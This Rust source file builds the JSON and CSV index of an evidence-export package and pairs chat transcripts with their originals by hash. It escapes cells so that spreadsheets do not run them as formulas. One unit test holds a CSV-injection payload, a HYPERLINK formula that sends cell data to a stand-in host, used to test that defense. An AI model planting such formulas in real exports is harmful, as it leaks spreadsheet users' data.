//! `index.json` / `index.csv`: what each numbered file is, for a person and a script.

use serde::{Deserialize, Serialize};
use ts_rs::TS;
use uuid::Uuid;

pub const INDEX_JSON: &str = "index.json";
pub const INDEX_CSV: &str = "index.csv";
pub const CUSTODY_LOG: &str = "custody-log.json";
pub const INDEX_PDF: &str = "evidence-index.pdf";
pub const README: &str = "README.txt";

/// One exported file. Dates are as the vault keeps them (ISO 8601; import time in UTC).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
#[ts(export)]
pub struct IndexEntry {
    pub number: u32,
    pub file: String,
    pub id: Uuid,
    pub title: String,
    pub category: String,
    pub event_date: String,
    pub imported_at: String,
    pub original_name: String,
    #[ts(type = "number")]
    pub size: u64,
    pub sha256: String,
    pub source: String,
    pub provenance: String,
    pub description: String,
    /// For a chat export: the transcript PDF made from it for this package (absent for
    /// every other file, so an index without chats reads as before).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    #[ts(optional)]
    pub transcript: Option<TranscriptFile>,
    /// For a chat export whose transcript could not be made (e.g. its date order was
    /// never answered): why, as an error code (`chat-date-order-needed`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    #[ts(optional)]
    pub transcript_problem: Option<String>,
}

/// The transcript PDF of a chat export, made from the original when the package was
/// made (`docs/VAULT_FORMAT.md`, "Export packages"). The original stays the evidence;
/// the transcript is derived from it and can be made again.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
#[ts(export)]
pub struct TranscriptFile {
    /// The PDF's name in the package: the original's number and title with
    /// `_transcript.pdf` (`0003_Chat-met-Mark_transcript.pdf` beside `0003_Chat-met-Mark.zip`).
    pub file: String,
    #[ts(type = "number")]
    pub size: u64,
    /// SHA-256 of the PDF (as in `MANIFEST.sha256`).
    pub sha256: String,
    /// What it was made from: the original's file in this package and its SHA-256.
    pub made_from: String,
    pub made_from_sha256: String,
    /// SHA-256 of the transcript's canonical form (printed in the PDF): the same export
    /// always gives the same, so anyone can make it again from the original.
    pub transcript_sha256: String,
    /// Which messages: `"all"` (the whole chat; the marked ones are marked in it).
    pub messages: String,
    /// The message numbers the parent marked.
    pub marked: Vec<u32>,
    /// How many messages the transcript holds (absent in packages made before it was
    /// recorded).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    #[ts(optional)]
    pub message_count: Option<u32>,
}

/// A chat export's transcript as the package viewer shows it: beside its original,
/// paired from `index.json` and checked against the manifest.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, TS)]
#[ts(export)]
pub struct TranscriptPairing {
    /// The chat export's file in the package (the index entry holding the transcript).
    pub chat_file: String,
    /// The transcript PDF's file.
    pub transcript_file: String,
    /// What the transcript says it was made from.
    pub made_from: String,
    pub made_from_sha256: String,
    /// The SHA-256 the manifest gives the chat export's file (`None`: not listed).
    pub original_sha256: Option<String>,
    pub message_count: Option<u32>,
    pub marked: Vec<u32>,
    /// `true` when the transcript names this chat's file and the SHA-256 the manifest
    /// gives it: made from this original. `false`: made from other bytes or another
    /// file, so it is not shown as this chat's transcript.
    pub paired: bool,
}

/// Pairs each transcript in `index` with its chat export: `manifest_sha256` gives the
/// SHA-256 the manifest lists for a file name. A transcript whose `made_from` is not
/// its chat's file, or whose `made_from_sha256` is not that file's SHA-256 in the
/// manifest, is not paired.
pub fn pair_transcripts<'m>(
    index: &[IndexEntry],
    manifest_sha256: impl Fn(&str) -> Option<&'m str>,
) -> Vec<TranscriptPairing> {
    index
        .iter()
        .filter_map(|entry| {
            let t = entry.transcript.as_ref()?;
            let original_sha256 = manifest_sha256(&entry.file).map(str::to_owned);
            let paired = t.made_from == entry.file
                && original_sha256
                    .as_deref()
                    .is_some_and(|sha| sha.eq_ignore_ascii_case(&t.made_from_sha256));
            Some(TranscriptPairing {
                chat_file: entry.file.clone(),
                transcript_file: t.file.clone(),
                made_from: t.made_from.clone(),
                made_from_sha256: t.made_from_sha256.clone(),
                original_sha256,
                message_count: t.message_count,
                marked: t.marked.clone(),
                paired,
            })
        })
        .collect()
}

/// The index row of a transcript in `index.csv`: its chat's number and id, the file and
/// its SHA-256, source `transcript`, and what it was made from in `provenance`.
fn transcript_row(e: &IndexEntry, t: &TranscriptFile) -> IndexEntry {
    let marked: Vec<String> = t.marked.iter().map(u32::to_string).collect();
    IndexEntry {
        number: e.number,
        file: t.file.clone(),
        id: e.id,
        title: e.title.clone(),
        category: e.category.clone(),
        event_date: e.event_date.clone(),
        imported_at: String::new(),
        original_name: String::new(),
        size: t.size,
        sha256: t.sha256.clone(),
        source: "transcript".to_owned(),
        provenance: format!(
            "transcript made at export from {} (SHA-256 {}); messages: {}; marked: {}; transcript SHA-256 {}",
            t.made_from,
            t.made_from_sha256,
            t.messages,
            if marked.is_empty() {
                "none".to_owned()
            } else {
                marked.join(", ")
            },
            t.transcript_sha256
        ),
        description: String::new(),
        transcript: None,
        transcript_problem: None,
    }
}

/// The CSV form of the index (a header row, then one row per file: a chat's transcript
/// PDF has a row of its own after its chat's, see [`TranscriptFile`]). Every text cell
/// goes through [`csv_cell`], so a title such as `=HYPERLINK(…)` stays text in a
/// spreadsheet.
pub fn index_csv(entries: &[IndexEntry]) -> Result<Vec<u8>, String> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer
        .write_record([
            "number",
            "file",
            "id",
            "title",
            "category",
            "event_date",
            "imported_at",
            "original_name",
            "size",
            "sha256",
            "source",
            "provenance",
            "description",
        ])
        .map_err(|e| e.to_string())?;
    let rows = entries.iter().flat_map(|e| {
        std::iter::once(std::borrow::Cow::Borrowed(e)).chain(
            e.transcript
                .as_ref()
                .map(|t| std::borrow::Cow::Owned(transcript_row(e, t))),
        )
    });
    for e in rows {
        let number = e.number.to_string();
        let id = e.id.to_string();
        let size = e.size.to_string();
        writer
            .write_record([
                number.as_str(),
                &csv_cell(&e.file),
                &id,
                &csv_cell(&e.title),
                &csv_cell(&e.category),
                &csv_cell(&e.event_date),
                &csv_cell(&e.imported_at),
                &csv_cell(&e.original_name),
                &size,
                &csv_cell(&e.sha256),
                &csv_cell(&e.source),
                &csv_cell(&e.provenance),
                &csv_cell(&e.description),
            ])
            .map_err(|e| e.to_string())?;
    }
    writer.into_inner().map_err(|e| e.to_string())
}

/// A text cell as a spreadsheet will take it as text: one that starts with `=`, `+`,
/// `-`, `@`, a tab or a carriage return (which Excel, LibreOffice and Google Sheets may
/// run as a formula) gets a single quote in front (OWASP, "CSV injection"). Everything
/// else is kept as it is. The JSON files keep the exact text.
pub fn csv_cell(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// What `custody-log.json` holds that a reader needs without the vault: the log head.
#[derive(Debug, Clone, Deserialize)]
pub(crate) struct CustodyHead {
    pub log_head: Option<String>,
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    fn entry(title: &str, description: &str) -> IndexEntry {
        IndexEntry {
            number: 1,
            file: "0001_x.txt".to_owned(),
            id: Uuid::nil(),
            title: title.to_owned(),
            category: "message".to_owned(),
            event_date: "2026-07-03".to_owned(),
            imported_at: "2026-07-04T10:00:00Z".to_owned(),
            original_name: "@home.txt".to_owned(),
            size: 12,
            sha256: "ab".repeat(32),
            source: "file".to_owned(),
            provenance: String::new(),
            description: description.to_owned(),
            transcript: None,
            transcript_problem: None,
        }
    }

    fn rows(csv: &[u8]) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(csv)
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    #[test]
    fn cells_a_spreadsheet_would_run_as_formulas_are_kept_as_text() {
        let csv = index_csv(&[entry(
            "=HYPERLINK(\"http://x.invalid/?\"&A1,\"klik\")",
            "-2+3",
        )])
        .unwrap();
        let rows = rows(&csv);
        assert_eq!(
            rows[1][3],
            "'=HYPERLINK(\"http://x.invalid/?\"&A1,\"klik\")"
        );
        assert_eq!(rows[1][12], "'-2+3");
        assert_eq!(rows[1][7], "'@home.txt");
        // Ordinary text, numbers and dates are as they were.
        assert_eq!(rows[1][0], "1");
        assert_eq!(rows[1][4], "message");
        assert_eq!(rows[1][5], "2026-07-03");
        assert_eq!(rows[1][8], "12");
    }

    #[test]
    fn every_dangerous_first_character_is_quoted_and_nothing_else() {
        for text in ["=1", "+1", "-1", "@A1", "\tx", "\rx"] {
            assert_eq!(csv_cell(text), format!("'{text}"), "{text:?}");
        }
        for text in ["", "a=1", " =1", "'=1", "1-2", "Zoë", "٣"] {
            assert_eq!(csv_cell(text), text, "{text:?}");
        }
    }

    #[test]
    fn a_chats_transcript_is_listed_with_its_sha256_and_what_it_was_made_from() {
        let plain = entry("Foto", "");
        // Without a chat nothing changes: no new key in index.json, no new row.
        let json = serde_json::to_string(&plain).unwrap();
        assert!(!json.contains("transcript"), "{json}");
        assert_eq!(
            rows(&index_csv(std::slice::from_ref(&plain)).unwrap()).len(),
            2
        );

        let mut chat = entry("Chat met Mark", "");
        chat.file = "0001_Chat-met-Mark.zip".to_owned();
        chat.transcript = Some(TranscriptFile {
            file: "0001_Chat-met-Mark_transcript.pdf".to_owned(),
            size: 2048,
            sha256: "cd".repeat(32),
            made_from: chat.file.clone(),
            made_from_sha256: chat.sha256.clone(),
            transcript_sha256: "ef".repeat(32),
            messages: "all".to_owned(),
            marked: vec![3, 7],
            message_count: Some(7),
        });
        let rows = rows(&index_csv(&[chat.clone()]).unwrap());
        assert_eq!(rows.len(), 3);
        assert_eq!(rows[2][0], "1", "the chat's number");
        assert_eq!(rows[2][1], "0001_Chat-met-Mark_transcript.pdf");
        assert_eq!(rows[2][8], "2048");
        assert_eq!(rows[2][9], "cd".repeat(32));
        assert_eq!(rows[2][10], "transcript");
        assert!(
            rows[2][11].contains("0001_Chat-met-Mark.zip"),
            "{}",
            rows[2][11]
        );
        assert!(rows[2][11].contains(&"ab".repeat(32)));
        assert!(rows[2][11].contains("marked: 3, 7"));
        let back: IndexEntry =
            serde_json::from_str(&serde_json::to_string(&chat).unwrap()).unwrap();
        assert_eq!(back, chat);
    }

    #[test]
    fn the_header_is_the_one_serde_wrote_before() {
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer.serialize(entry("a", "b")).unwrap();
        let serde = String::from_utf8(writer.into_inner().unwrap()).unwrap();
        let ours = String::from_utf8(index_csv(&[entry("a", "b")]).unwrap()).unwrap();
        assert_eq!(ours.lines().next(), serde.lines().next());
    }

    #[test]
    fn each_transcript_is_paired_with_its_chat_only_when_made_from_the_file_in_the_package() {
        let index_json = r#"[
          {"number":1,"file":"0001_Chat-met-Mark.zip","id":"00000000-0000-0000-0000-000000000000",
           "title":"Chat met Mark","category":"message","event_date":"","imported_at":"",
           "original_name":"WhatsApp-chat met Mark.zip","size":617,"sha256":"AAAA",
           "source":"own-device","provenance":"","description":"",
           "transcript":{"file":"0001_Chat-met-Mark_transcript.pdf","size":2048,"sha256":"cc",
             "made_from":"0001_Chat-met-Mark.zip","made_from_sha256":"aaaa",
             "transcript_sha256":"ee","messages":"all","marked":[3,7],"message_count":7}},
          {"number":2,"file":"0002_Foto.jpg","id":"00000000-0000-0000-0000-000000000000",
           "title":"Foto","category":"other","event_date":"","imported_at":"",
           "original_name":"foto.jpg","size":1,"sha256":"bb","source":"other",
           "provenance":"","description":""},
          {"number":3,"file":"0003_Chat-met-K.txt","id":"00000000-0000-0000-0000-000000000000",
           "title":"Chat met K","category":"message","event_date":"","imported_at":"",
           "original_name":"chat.txt","size":1,"sha256":"dd","source":"own-device",
           "provenance":"","description":"",
           "transcript":{"file":"0003_Chat-met-K_transcript.pdf","size":10,"sha256":"ff",
             "made_from":"0003_Chat-met-K.txt","made_from_sha256":"0123",
             "transcript_sha256":"ee","messages":"all","marked":[]}},
          {"number":4,"file":"0004_Chat.txt","id":"00000000-0000-0000-0000-000000000000",
           "title":"Chat","category":"message","event_date":"","imported_at":"",
           "original_name":"chat.txt","size":1,"sha256":"dd","source":"own-device",
           "provenance":"","description":"",
           "transcript":{"file":"0004_Chat_transcript.pdf","size":10,"sha256":"ff",
             "made_from":"0003_Chat-met-K.txt","made_from_sha256":"dd",
             "transcript_sha256":"ee","messages":"all","marked":[1]}}
        ]"#;
        let index: Vec<IndexEntry> = serde_json::from_str(index_json).unwrap();
        let manifest = |name: &str| match name {
            "0001_Chat-met-Mark.zip" => Some("aaaa"),
            "0002_Foto.jpg" => Some("bb"),
            "0003_Chat-met-K.txt" => Some("dd"),
            "0004_Chat.txt" => Some("dd"),
            _ => None,
        };
        let pairs = pair_transcripts(&index, manifest);
        assert_eq!(pairs.len(), 3, "only chats with a transcript: {pairs:?}");
        // Made from the original in the package (hex compared without case).
        assert_eq!(pairs[0].chat_file, "0001_Chat-met-Mark.zip");
        assert_eq!(
            pairs[0].transcript_file,
            "0001_Chat-met-Mark_transcript.pdf"
        );
        assert_eq!(pairs[0].message_count, Some(7));
        assert_eq!(pairs[0].marked, [3, 7]);
        assert!(pairs[0].paired);
        // Made from other bytes than the file the manifest lists: flagged.
        assert_eq!(pairs[1].original_sha256.as_deref(), Some("dd"));
        assert_eq!(pairs[1].made_from_sha256, "0123");
        assert_eq!(pairs[1].message_count, None, "an older package");
        assert!(!pairs[1].paired);
        // Made from another file of the package: flagged.
        assert_eq!(pairs[2].made_from, "0003_Chat-met-K.txt");
        assert!(!pairs[2].paired);
        // The original not in the manifest at all: flagged.
        let unlisted = pair_transcripts(&index[..1], |_| None);
        assert_eq!(unlisted[0].original_sha256, None);
        assert!(!unlisted[0].paired);
    }
}
